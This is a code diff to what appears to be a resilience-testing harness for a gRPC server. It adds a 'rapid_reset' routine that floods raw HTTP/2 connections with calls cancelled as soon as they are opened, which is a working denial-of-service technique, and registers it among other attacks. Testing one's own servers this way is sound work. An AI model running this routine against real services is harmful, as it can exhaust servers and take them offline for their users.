@@ -28,9 +28,11 @@ REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
 WATCH = "/grpc.health.v1.Health/Watch"
 _AT_ONCE = 12
 _BURST = 32
-"""Pings, and settings, that are sent at once."""
+"""Pings, settings, or cancelled calls, that are sent at once."""
 _CONTROL_BURSTS = 1_000_000
 """Of each connection; more than are sent in the time of a whole attack."""
+_CANCELLED_BURSTS = 20_000
+"""Of each connection, as above."""
 _ANSWER_TIMEOUT_S = 2.0
 _LARGEST_MESSAGE = 4 * 1024 * 1024
 _EXTREMES = (math.nan, math.inf, -math.inf, -1.0, -0.0, 5e-324, 1e-305, 1e-3, 1e305, 1.7e308)
@@ -447,6 +449,27 @@ async def control_frames(siege: Siege) -> int:
     return sum(await together([one() for _ in range(siege.many(_AT_ONCE))]))
 
 
+async def rapid_reset(siege: Siege) -> int:
+    """Begin calls, of vehicles and of probes, and cancel each before the server has seen it."""
+
+    async def one(index: int) -> int:
+        block = raw_http2.call_headers(siege.address, (METHOD, HEALTH)[index % 2])
+        begun = 0
+        while not siege.is_over and begun < _CANCELLED_BURSTS * _BURST:
+            with contextlib.suppress(OSError, TimeoutError):
+                async with (
+                    asyncio.timeout(seconds_until(siege.end_ns)),
+                    RawConnection(siege.address) as connection,
+                ):
+                    for first in range(1, 2 * _CANCELLED_BURSTS * _BURST, 2 * _BURST):
+                        await connection.send_raw(raw_http2.cancelled_calls(block, first, _BURST))
+                        begun += _BURST
+                        await asyncio.sleep(0.002)
+        return begun
+
+    return sum(await together(one(index) for index in range(siege.many(_AT_ONCE))))
+
+
 async def half_messages(siege: Siege) -> int:
     """Send all of a message of 4 MiB but its last byte, on many connections."""
     almost = raw_http2.message(bytes(_LARGEST_MESSAGE - 2), _LARGEST_MESSAGE - 1)
@@ -484,6 +507,7 @@ ATTACKS: dict[str, Attack] = {
         extreme_openings,
         half_headers,
         control_frames,
+        rapid_reset,
         half_messages,
         half_requests,
         untaken_models,
